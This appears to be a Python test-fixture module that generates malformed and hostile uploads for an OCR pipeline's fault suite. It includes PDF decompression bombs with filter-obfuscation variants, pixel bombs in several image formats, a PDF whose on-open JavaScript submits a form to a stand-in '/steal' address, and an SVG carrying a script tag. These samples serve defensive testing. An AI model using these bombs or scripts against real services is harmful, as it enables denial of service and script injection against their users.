"""Generators of bad (and awkward but valid) uploads for the fault suite (issue #8, "Bad input: files").

Each :class:`BadFile` writes one file to a directory and says what the engine must answer: an error code
(``UNSUPPORTED_FORMAT``, ``CORRUPT_FILE``, ``FILE_TOO_LARGE``, ``UNREADABLE_DOCUMENT`` for a blank page)
or, for formats the engine reads (multi-page TIFF, CMYK JPEG, 16-bit PNG, a PDF carrying JavaScript),
an ordinary verdict: those carry :data:`APPLICANT`'s page from ``engine_pages``, so the verdict is true.

Everything is generated: the "PNG bomb" is a few hundred bytes declaring 50000x50000 pixels, the
1,000-page PDF about 120 KB, the PDF bombs 1-2.5 MB inflating to 1-2.5 GB (the Flate-twice one 2 KB,
the JBIG2 one 120 KB declaring 40 gigapixels), and the 100 MB file is sparse on disk and never held in
memory by the test. The bombs that get past the engine's pattern checks are stopped by the decoder
process's limits (``engine.bounded_load``).
"""

from __future__ import annotations

import io
import os
import shutil
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

import numpy as np
from PIL import Image

from ocr_pipeline.engine.models import Applicant, ErrorCode
from ocr_pipeline_devtools import engine_pages as pages
from ocr_pipeline_devtools.engine_pages import pdf_from_objects

APPLICANT = Applicant(iin="960125400124", last_name="Жармағанбетова", first_name="Әлия", second_name="Серікқызы")
"""The person ``engine_pages.render_page()`` names (its line ``KNOWN_LINE`` and its IIN line)."""

NORMAL_VERDICT = None
"""``BadFile.expected`` of a file the engine must read and judge on its content."""

HUNDRED_MB = 100 * 1024 * 1024


@dataclass(frozen=True)
class BadFile:
    """One kind of upload: ``write(path)`` creates it; ``expected`` is the error code the verdict must
    carry, or :data:`NORMAL_VERDICT` (then ``accepted`` says whether the verdict must be true)."""

    kind: str
    filename: str
    write: Callable[[Path], None]
    expected: Optional[ErrorCode]
    accepted: bool = False


def _bytes_writer(make: Callable[[], bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(make())
    return write


def _page() -> Image.Image:
    return pages.render_page()


def _small_page() -> Image.Image:
    return pages.render_page(size=(400, 560), font_px=20, margin=30)


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


# ------------------------------------------------------------------------------------ hand-written PDFs

def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def scan_pdf_with_javascript(image: Image.Image) -> bytes:
    """A one-page "scan" (the page as a JPEG image) whose catalog runs JavaScript on open
    (``/OpenAction``), plus a page-open action and a document-level script in ``/Names``."""
    jpeg = pages.encode(image.convert("RGB"), "JPEG", quality=85)
    width_pt, height_pt = image.width * 72 / 300, image.height * 72 / 300
    script = (b"app.alert('ocr_pipeline test: JavaScript ran'); "
              b"this.submitForm('http://127.0.0.1:9/steal'); app.launchURL('http://127.0.0.1:9/', true);")
    content = b"q %.2f 0 0 %.2f 0 0 cm /Im0 Do Q" % (width_pt, height_pt)
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %.2f %.2f] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 7 0 R >> >> /AA << /O 5 0 R >> >>" % (width_pt, height_pt),
        _stream(b"", content),
        b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",
        b"<< /Names [(init) 5 0 R] >>",
        _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /DCTDecode" % (image.width, image.height), jpeg),
    ])


def pdf_page_tree_cycle() -> bytes:
    """A PDF whose page tree points back at itself (a reader that follows it naively never ends)."""
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    ])


def pdf_without_pages() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    return pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def deflated_repeat(block: bytes, count: int) -> bytes:
    """A zlib stream of ``block`` repeated ``count`` times, built from one compressed copy (fast for
    gigabytes: after a full flush zlib compresses an identical block to identical bytes)."""
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(block, checksum)
    # 0x03 0x00: an empty final block with fixed Huffman codes, then the Adler-32 of the whole
    return first + repeat * (count - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def pdf_flate_bomb(inflated_bytes: int = 1024 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream is ``inflated_bytes`` of spaces, deflated about 1000:1."""
    block = 16 * 1024 * 1024
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"/Filter /FlateDecode", deflated_repeat(b" " * block, inflated_bytes // block)),
    ])


def pdf_image_bomb() -> bytes:
    """A one-page PDF holding a 50000x50000 gray image XObject (2.5 GB decoded, ~2.5 MB deflated)."""
    side = 50_000
    rows_per_block = 320  # 16 MB
    deflated = deflated_repeat(b"\xff" * (side * rows_per_block), side // rows_per_block)
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
        _stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q"),
        _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode" % (side, side), deflated),
    ])


def _one_page_pdf(content_dictionary: bytes, content: bytes, extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page A4 PDF whose content stream (object 4) has ``content_dictionary``; ``extra`` objects
    follow as 5, 6..."""
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(content_dictionary, content),
        *extra,
    ])


def _gigabyte_of_spaces() -> bytes:
    block = 16 * 1024 * 1024
    return deflated_repeat(b" " * block, 1024 * 1024 * 1024 // block)


def pdf_flate_bomb_indirect_filter() -> bytes:
    """The 1 GB flate bomb with its filter named through an indirect object (``/Filter 5 0 R``)."""
    return _one_page_pdf(b"/Filter 5 0 R", _gigabyte_of_spaces(), (b"/FlateDecode",))


def pdf_flate_bomb_escaped_name() -> bytes:
    """The 1 GB flate bomb with its filter written as an escaped name (``/#46lateDecode``)."""
    return _one_page_pdf(b"/Filter /#46lateDecode", _gigabyte_of_spaces())


def pdf_flate_bomb_filter_array() -> bytes:
    """A 1 GB content stream deflated twice (``/Filter [/FlateDecode /FlateDecode]``): the first
    layer inflates to 1 MB, the file is a few kilobytes."""
    return _one_page_pdf(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(_gigabyte_of_spaces(), 9))


def _image_page_pdf(image_dictionary: bytes, image_data: bytes) -> bytes:
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
        _stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q"),
        _stream(b"/Type /XObject /Subtype /Image " + image_dictionary, image_data),
    ])


def pdf_with_huge_jpx(side: int = 16_384, tile: int = 1024) -> bytes:
    """A PDF holding a JPEG 2000 image (``/JPXDecode``) of ``side`` x ``side`` white pixels (268
    megapixels, about 8 KB): one encoded ``tile`` x ``tile`` tile-part repeated for every tile."""
    buffer = io.BytesIO()
    Image.new("L", (tile, tile), 255).save(buffer, "JPEG2000", no_jp2=True, tile_size=(tile, tile),
                                           irreversible=False)
    encoded = buffer.getvalue()
    first_tile = encoded.index(b"\xff\x90")  # SOT: Lsot Isot Psot TPsot TNsot
    header = bytearray(encoded[:first_tile])
    siz = header.index(b"\xff\x51")  # SIZ: Lsiz Rsiz Xsiz Ysiz ...
    header[siz + 6:siz + 14] = struct.pack(">II", side, side)
    part = bytearray(encoded[first_tile:encoded.rindex(b"\xff\xd9")])
    part[6:10] = struct.pack(">I", len(part))
    codestream = bytearray(header)
    for index in range((side // tile) ** 2):
        part[4:6] = struct.pack(">H", index)
        codestream += part
    codestream += b"\xff\xd9"  # EOC
    return _image_page_pdf(b"/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
                           b"/Filter /JPXDecode" % (side, side), bytes(codestream))


def pdf_with_huge_jpeg(side: int = 60_000) -> bytes:
    """A PDF holding a DCT (JPEG) image whose frame header and dictionary declare ``side`` x ``side``."""
    return _image_page_pdf(b"/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
                           b"/Filter /DCTDecode" % (side, side), jpeg_bomb(side, side))


def jbig2_blank(width: int, height: int) -> bytes:
    """An embedded JBIG2 stream (no file header) of a ``width`` x ``height`` white page: a page
    information segment and an immediate generic region coded with MMR, one bit ("V0") per row."""
    def segment(number: int, kind: int, data: bytes) -> bytes:  # header: no referred-to segments, page 1
        return struct.pack(">IBBBI", number, kind, 0, 1, len(data)) + data

    page_information = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", width, height, 0, 0, 0) + b"\x01"  # region information; flags: MMR
    rows = b"\xff" * (height // 8) + b"\x00\x10\x01"  # V0 for every row, then the end-of-block code
    return segment(0, 48, page_information) + segment(1, 38, region + rows)


def pdf_with_huge_jbig2(page_count: int = 10, width: int = 50_000, height: int = 40_000) -> bytes:
    """A PDF of ``page_count`` pages, each drawing two 2-gigapixel JBIG2 images of its own (12 KB a
    page): pdfium decodes each in full (measured: about 5 s and 560 MB an image), 100 s in all."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
                   b" ".join(b"%d 0 R" % (3 + 4 * i) for i in range(page_count)), page_count)]
    image = _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                    b"/BitsPerComponent 1 /Filter /JBIG2Decode" % (width, height), jbig2_blank(width, height))
    for i in range(page_count):
        first = 3 + 4 * i
        objects += [
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /XObject << /Im0 %d 0 R /Im1 %d 0 R >> >> >>" % (first + 1, first + 2, first + 3),
            _stream(b"", b"q 595 0 0 421 0 0 cm /Im0 Do Q q 595 0 0 421 0 421 cm /Im1 Do Q"),
            image,
            image,
        ]
    return pdf_from_objects(objects)


def poster_pdf() -> bytes:
    """A blank page of 14400x14400 pt (200x200 inches, the largest PDF page): 3.6 gigapixels at 300 DPI."""
    return pages.blank_pdf(1, size_pt=(14400, 14400))


# ------------------------------------------------------------------------------------------- images

def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of a few hundred bytes declaring ``width`` x ``height`` pixels (2.5 gigapixels)."""
    return pages.png_header_only(width, height)


def jpeg_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A small real JPEG whose frame header (SOF0) is patched to declare ``width`` x ``height``."""
    data = bytearray(pages.encode(Image.new("L", (16, 16), 255), "JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5:at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_16_bit_bomb(side: int = 7700) -> bytes:
    """A black 16-bit grayscale PNG just under the pixel limit (59 megapixels, about 200 KB): the
    conversion to 8 bits passes through 64-bit integers, several times 475 MB."""
    rows = zlib.compress(b"\x00" * (1 + 2 * side) * side, 9)  # filter byte 0, then the row's samples
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 16, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b""))


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def tiff_bomb(pages_count: int = 10, side: int = 7700) -> bytes:
    """A TIFF of ``pages_count`` blank colour pages just under the pixel and page limits (59 megapixels
    each, deflated to a few hundred KB): 1.8 GB of decoded pages in all."""
    frame = Image.new("RGB", (side, side), (255, 255, 255))
    return pages.encode(frame, "TIFF", compression="tiff_adobe_deflate", save_all=True,
                        append_images=[frame] * (pages_count - 1))


def png_16_bit(image: Image.Image) -> bytes:
    """``image`` as a 16-bit grayscale PNG."""
    values = np.asarray(image.convert("L")).astype(np.uint16) * 257
    data = pages.encode(Image.fromarray(values), "PNG")
    assert data[24] == 16, "IHDR bit depth must be 16"
    return data


def png_with_garbage_chunk(image: Image.Image) -> bytes:
    """A PNG whose image data is overwritten in the middle (bad zlib stream and CRC)."""
    data = bytearray(pages.encode(image, "PNG"))
    data[200:400] = b"\x00" * 200
    return bytes(data)


def multi_page_tiff(first: Image.Image) -> bytes:
    """A three-page TIFF (deflate): a blank page, ``first`` in gray, and a bilevel copy of it."""
    blank = Image.new("L", first.size, 255)
    return pages.encode(blank, "TIFF", compression="tiff_deflate", save_all=True,
                        append_images=[first.convert("L"), first.convert("1")])


def tiff_with_many_pages(count: int = 1000) -> bytes:
    """A TIFF of ``count`` tiny pages."""
    frame = Image.new("1", (8, 8), 1)
    return pages.encode(frame, "TIFF", save_all=True, append_images=[frame] * (count - 1))


def animated_gif(image: Image.Image) -> bytes:
    """A three-frame animated GIF of the page."""
    frames = [image.convert("P"), image.rotate(2, fillcolor="white").convert("P"),
              image.rotate(-2, fillcolor="white").convert("P")]
    return pages.encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0)


def webp(image: Image.Image) -> bytes:
    """The page as WebP (a format phones produce, not accepted)."""
    return pages.encode(image, "WEBP", quality=80)


def svg_document() -> bytes:
    """An SVG "document" with the applicant's name as text (vector images are not accepted)."""
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" width="595" height="842">'
            f'<text x="50" y="100">ПРИКАЗ № 42-К</text><text x="50" y="140">{pages.KNOWN_LINE}</text>'
            '<script>alert(1)</script></svg>').encode()


def html_document() -> bytes:
    """A web page saved as the "document" (a frequent upload mistake)."""
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Приказ</title></head><body>"
            f"<h1>ПРИКАЗ № 42-К</h1><p>{pages.KNOWN_LINE}</p><p>ИИН {APPLICANT.iin}</p></body></html>").encode()


def elf_executable() -> bytes:
    """A real ELF executable of this machine (``true``), or a minimal ELF header without one."""
    found = shutil.which("true")
    if found:
        with open(found, "rb") as f:
            data = f.read()
        if data.startswith(b"\x7fELF"):
            return data
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 4000


def windows_executable() -> bytes:
    """A minimal Windows PE executable: DOS stub ("MZ"), PE signature and COFF header."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub.ljust(0x80 - len(dos), b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0xF0, 0x22)
    return body + coff + b"\x00" * 4096


def docx_like_zip() -> bytes:
    """A ZIP archive laid out like a DOCX (Word document) renamed to ``.pdf``."""
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f"<w:document><w:t>{pages.KNOWN_LINE}</w:t></w:document>")
    return buffer.getvalue()


def random_bytes(size: int = 1024 * 1024) -> bytes:
    """``size`` random bytes (not any format)."""
    return os.urandom(size)


def write_hundred_mb_pdf(path: Path, size: int = HUNDRED_MB) -> None:
    """A file of ``size`` bytes starting with a PDF header, written sparse (no 100 MB buffer)."""
    with open(path, "wb") as f:
        f.write(pages.blank_pdf(1))
        f.truncate(size)


# ------------------------------------------------------------------------------------------ catalogue

def catalogue() -> list[BadFile]:
    """Every kind of bad upload, with the error code (or normal verdict) the engine must give."""
    unsupported, corrupt, too_large = (ErrorCode.UNSUPPORTED_FORMAT, ErrorCode.CORRUPT_FILE,
                                       ErrorCode.FILE_TOO_LARGE)
    w = _bytes_writer
    return [
        BadFile("zero bytes", "empty.pdf", w(lambda: b""), unsupported),
        BadFile("truncated JPEG", "photo.jpg", w(lambda: _half(pages.encode(_page(), "JPEG", quality=90))), corrupt),
        BadFile("truncated PNG", "scan.png", w(lambda: _half(pages.encode(_page(), "PNG"))), corrupt),
        BadFile("truncated PDF", "order.pdf", w(lambda: _half(pages.encode(_page(), "PDF"))), corrupt),
        BadFile("truncated TIFF", "scan.tif",
                w(lambda: _half(pages.encode(_page(), "TIFF", compression="tiff_deflate"))), corrupt),
        BadFile("PNG with damaged data", "scan.png", w(lambda: png_with_garbage_chunk(_page())), corrupt),
        BadFile("PDF header then garbage", "order.pdf", w(lambda: b"%PDF-1.7\n" + random_bytes(4096)), corrupt),
        BadFile("PDF without pages", "order.pdf", w(pdf_without_pages), corrupt),
        BadFile("PDF page tree cycle", "order.pdf", w(pdf_page_tree_cycle), corrupt),
        BadFile("PNG bomb 50000x50000", "scan.png", w(png_bomb), too_large),
        BadFile("JPEG bomb 60000x60000", "photo.jpg", w(jpeg_bomb), too_large),
        BadFile("PDF with 50000x50000 image", "order.pdf", w(pdf_image_bomb), too_large),
        BadFile("PDF flate bomb (1 GB stream)", "order.pdf", w(pdf_flate_bomb), too_large),
        BadFile("PDF flate bomb, indirect /Filter", "order.pdf", w(pdf_flate_bomb_indirect_filter), too_large),
        BadFile("PDF flate bomb, escaped /#46lateDecode", "order.pdf", w(pdf_flate_bomb_escaped_name), too_large),
        BadFile("PDF flate bomb, filter array (Flate twice)", "order.pdf", w(pdf_flate_bomb_filter_array),
                too_large),
        # pdfium decodes these at the resolution it draws them (measured: under 200 MB): a blank page
        BadFile("PDF with 16384x16384 JPX image", "order.pdf", w(pdf_with_huge_jpx), too_large),
        BadFile("PDF with 60000x60000 JPEG image", "order.pdf", w(pdf_with_huge_jpeg), too_large),
        BadFile("PDF of 10 pages x 2 JBIG2 images of 2 gigapixels", "order.pdf", w(pdf_with_huge_jbig2), too_large),
        BadFile("16-bit PNG of 59 megapixels", "scan.png", w(png_16_bit_bomb), too_large),
        BadFile("TIFF of 10 pages x 59 megapixels", "scan.tif", w(tiff_bomb), too_large),
        BadFile("PDF 1,000 pages", "order.pdf", w(lambda: pages.blank_pdf(1000)), too_large),
        BadFile("TIFF 1,000 pages", "scan.tif", w(tiff_with_many_pages), too_large),
        BadFile("100 MB file", "order.pdf", write_hundred_mb_pdf, too_large),
        BadFile("encrypted PDF", "order.pdf", w(pages.encrypted_pdf), unsupported),
        BadFile("PDF with JavaScript", "order.pdf", w(lambda: scan_pdf_with_javascript(_page())),
                NORMAL_VERDICT, accepted=True),
        BadFile("poster-sized PDF page (blank)", "order.pdf", w(poster_pdf), ErrorCode.UNREADABLE_DOCUMENT),
        BadFile("multi-page TIFF", "scan.tif", w(lambda: multi_page_tiff(_page())), NORMAL_VERDICT, accepted=True),
        BadFile("CMYK JPEG", "photo.jpg", w(lambda: pages.encode(_page().convert("CMYK"), "JPEG", quality=90)),
                NORMAL_VERDICT, accepted=True),
        BadFile("16-bit PNG", "scan.png", w(lambda: png_16_bit(_page())), NORMAL_VERDICT, accepted=True),
        BadFile("animated GIF", "scan.gif", w(lambda: animated_gif(_small_page())), unsupported),
        BadFile("WebP", "photo.webp", w(lambda: webp(_small_page())), unsupported),
        BadFile("SVG", "order.svg", w(svg_document), unsupported),
        BadFile("HTML", "order.html", w(html_document), unsupported),
        BadFile("ELF executable renamed .pdf", "order.pdf", w(elf_executable), unsupported),
        BadFile("Windows executable renamed .pdf", "order.pdf", w(windows_executable), unsupported),
        BadFile("DOCX (ZIP) renamed .pdf", "order.pdf", w(docx_like_zip), unsupported),
        BadFile("1 MB of random bytes", "order.pdf", w(random_bytes), unsupported),
    ]
